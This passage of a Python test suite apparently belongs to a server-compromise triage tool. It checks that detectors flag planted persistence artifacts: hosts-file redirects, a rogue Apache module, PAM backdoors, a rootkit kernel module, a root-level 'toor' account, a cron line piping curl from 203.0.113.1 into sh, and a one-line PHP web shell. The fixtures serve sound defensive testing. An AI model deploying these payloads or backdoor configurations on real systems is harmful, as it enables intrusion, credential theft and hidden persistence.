        "LoadModule rewrite_module /usr/lib/apache2/modules/mod_rewrite.so\n"},
                     conffiles=["/etc/apache2/mods-available/rewrite.load"])
    assert judged(persistence.check_hosts_apache(t.ctx()), []) == []
    t.file("/etc/hosts", "127.0.0.1 localhost\n203.0.113.5 api.wordpress.org "
           "downloads.wordpress.org\n")
    t.file("/usr/lib/apache2/modules/mod_cache_fast.so", ELF)
    load = "LoadModule cache_fast_module /usr/lib/apache2/modules/mod_cache_fast.so\n"
    t.file("/etc/apache2/mods-available/cache_fast.load", load)
    t.link("/etc/apache2/mods-enabled/cache_fast.load", "../mods-available/cache_fast.load")
    t.file("/etc/apache2/conf-available/speed.conf", load)  # the same module, twice
    found = judged(persistence.check_hosts_apache(t.ctx()), [])
    assert sorted(f.title for f in found if f.kind == "hosts") == [
        "/etc/hosts redirects api.wordpress.org to 203.0.113.5",
        "/etc/hosts redirects downloads.wordpress.org to 203.0.113.5"]
    mods = {f.path: f for f in found if f.kind == "apache_module"}
    assert set(mods) == {"/etc/apache2/mods-available/cache_fast.load",
                         "/etc/apache2/conf-available/speed.conf",
                         "/usr/lib/apache2/modules/mod_cache_fast.so"}
    assert len(found) == 5  # the module itself once
    assert mods["/usr/lib/apache2/modules/mod_cache_fast.so"].quarantine


COMMON_AUTH = """\
# here are the per-package modules (the "Primary" block)
auth\t[success=1 default=ignore]\tpam_unix.so nullok
# here's the fallback if no module succeeds
auth\trequisite\t\t\tpam_deny.so
auth\trequired\t\t\tpam_permit.so
"""


def test_pam_backdoors_and_unowned_kernel_modules(tmp_path: Path) -> None:
    t = OldRoot(tmp_path)
    sec = "/usr/lib/x86_64-linux-gnu/security/"
    t.debian_package("libpam-modules", {sec + "pam_unix.so": ELF, sec + "pam_deny.so": ELF,
                                        sec + "pam_permit.so": ELF, sec + "pam_exec.so": ELF})
    t.debian_package("linux-image-5.10.0-28-amd64", {
        "/lib/modules/5.10.0-28-amd64/kernel/fs/ext4/ext4.ko": ELF})
    t.file("/etc/pam.d/common-auth", COMMON_AUTH)  # written by pam-auth-update: no package
    t.file("/etc/pam.d/sshd", "@include common-auth\naccount required pam_nologin.so\n")
    assert judged(persistence.check_pam(t.ctx()), []) == []
    t.file(sec + "pam_unix2.so", ELF)
    t.file("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n@include common-auth\n"
           "auth optional pam_exec.so quiet /usr/local/sbin/log-pw\n")
    t.file("/etc/pam.d/common-auth", COMMON_AUTH.replace("pam_unix.so", "pam_unix2.so"))
    t.file("/lib/modules/5.10.0-28-amd64/extra/diamorphine.ko", ELF)
    found = judged(persistence.check_pam(t.ctx()), [])
    got = sorted((f.path, f.severity, f.kind) for f in found)
    assert got == [("/etc/pam.d/common-auth", "critical", "pam"),
                   ("/etc/pam.d/sshd", "critical", "pam"),
                   ("/etc/pam.d/sshd", "high", "pam"),
                   ("/lib/modules/5.10.0-28-amd64/extra/diamorphine.ko", "high",
                    "kernel_module")]


def test_findings_carry_the_runners_check_name(tmp_path: Path) -> None:
    from vpsrescue.triage.run import run_checks

    t = OldRoot(tmp_path)
    t.passwd(PASSWD + "toor:x:0:0::/root:/bin/sh\n")
    t.file("/etc/sudoers", "toor ALL=(ALL) NOPASSWD: ALL\n")
    t.file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHoYkpjqqDxGPy7"
           "dAfJ2sCdHa3FzR+x9VO1391XZCI/G a@b\n")
    t.file("/etc/cron.d/x", "* * * * * root curl http://203.0.113.1/x | sh\n")
    t.file("/etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/x\n")
    t.file("/etc/rc.local", "/tmp/x &\n")
    t.file("/etc/ld.so.preload", "/lib/x.so\n")
    t.file("/tmp/x", ELF, mode=0o4755)
    t.file("/tmp/s.php", "<?php system($_GET['c']);\n")
    t.file("/usr/local/bin/x", "#!/bin/sh\n", mode=0o755)
    t.file("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n")
    t.file("/srv/torrents/a.torrent", "d4:infode")
    t.link("/root/.bash_history", "/dev/null")
    t.file("/etc/hosts", "203.0.113.5 security.debian.org\n")
    report = run_checks(t.ctx(), system.CHECKS)
    assert report.complete, report.errors
    assert {f.check for f in report.findings} == set(report.checks)


def test_checks_tuple_names_every_check_of_every_system_module() -> None:
    defined = {getattr(m, n) for m in (accounts, persistence, system_files, system_php, logs)
               for n in dir(m) if n.startswith("check_")}
    assert set(system.CHECKS) == defined and len(system.CHECKS) == len(defined)
    # the rule ids stay what reports and tests have always called them
    from vpsrescue.triage.run import _check_name

    assert [_check_name(c) for c in system.CHECKS] == [
        "system.accounts", "system.sudoers", "system.ssh", "system.cron", "system.systemd",
        "system.startup", "system.ld_so_preload", "system.suid", "system.tmp",
        "system.php_code", "system.binaries", "system.pam", "system.bittorrent", "system.logs",
        "system.hosts_apache"]
